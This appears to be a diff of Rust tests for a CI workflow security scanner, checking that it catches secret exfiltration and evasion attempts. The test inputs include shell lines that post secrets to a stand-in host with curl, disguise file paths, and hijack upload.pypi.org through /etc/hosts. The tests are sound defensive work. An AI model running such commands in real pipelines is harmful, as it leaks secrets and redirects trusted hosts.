@@ -130,13 +130,14 @@ fn a_script_of_the_repository() {
 #[test]
 fn a_called_file_that_is_too_large_to_be_read() {
     let workflow = format!("{HANDED}{}", calls("bash send.sh"));
-    // The workflow itself sends nothing; what it calls is not there to be searched either.
+    // What it calls is not there to be searched, so it may send whatever it is given.
     for size in [1024 * 1024 + 1, 16 * 1024 * 1024 + 1] {
         let mut script = SEND.as_bytes().to_vec();
         script.resize(size, b'\n');
         for document in documents(&workflow, &[("send.sh", &script)]) {
             assert!(!document.complete);
-            assert!(document.findings.iter().any(|one| one.rule == "unanalysed-workflow"));
+            let seen: Vec<_> = document.findings.iter().map(|one| (one.rule.as_str(), one.verdict)).collect();
+            assert!(seen.contains(&("unanalysed-workflow", Verdict::Suspicious)), "{seen:?}");
             assert!(
                 document
                     .problems
@@ -254,5 +255,50 @@ fn an_action_or_called_workflow_that_cannot_be_parsed() {
                 "{path}"
             );
         }
+    }
+}
+
+#[test]
+fn things_that_a_command_runs_for() {
+    let workflow = |lines: usize| {
+        let names: String = (0..lines - 1).map(|at| format!("127.0.0.{at}\\n")).collect();
+        let run = format!("printf '{names}collector.example\\n' | xargs -I% curl -d \"$A$B\" https://%/in");
+        format!("{HANDED}{}", calls(&run))
+    };
+    is_analysed(&workflow(256), &[]);
+    is_not_hidden(&workflow(257), &[]);
+}
+
+#[test]
+fn words_of_braces() {
+    let workflow = |words: usize| {
+        let run = format!("for n in {{1..{words}}}; do true; done; {}", SEND.trim_end());
+        format!("{HANDED}{}", calls(&format!("|\n          {run}")))
+    };
+    is_analysed(&workflow(255), &[]);
+    is_not_hidden(&workflow(2_000), &[]);
+}
+
+#[test]
+fn files_that_a_job_writes() {
+    let workflow = |files: usize| {
+        let writes: String = (0..files).map(|at| format!("          : > f{at}\n")).collect();
+        let send = "          echo \"$A$B\" > last\n          curl -T last https://collector.example/in\n";
+        format!("{HANDED}{}", calls(&format!("|\n{writes}{send}")))
+    };
+    is_analysed(&workflow(4_095), &[]);
+    is_not_hidden(&workflow(4_096), &[]);
+}
+
+/// However a file is spelled, it is the same file; and a line of hosts may have many names.
+#[test]
+fn other_spellings_of_a_path_and_many_names_of_a_host() {
+    for send in [
+        "echo \"$A$B\" > f; curl -T ././f https://collector.example/in",
+        "echo \"$A$B\" > f; curl -T x/../f https://collector.example/in",
+        "mkdir a; echo \"$A$B\" > a/f; curl -T a//f https://collector.example/in",
+        "echo '192.0.2.9 a b c d e f g h upload.pypi.org' | sudo tee -a /etc/hosts; curl -d \"$A$B\" https://upload.pypi.org/",
+    ] {
+        is_analysed(&format!("{HANDED}{}", calls(&format!("|\n          {send}"))), &[]);
     }
 }
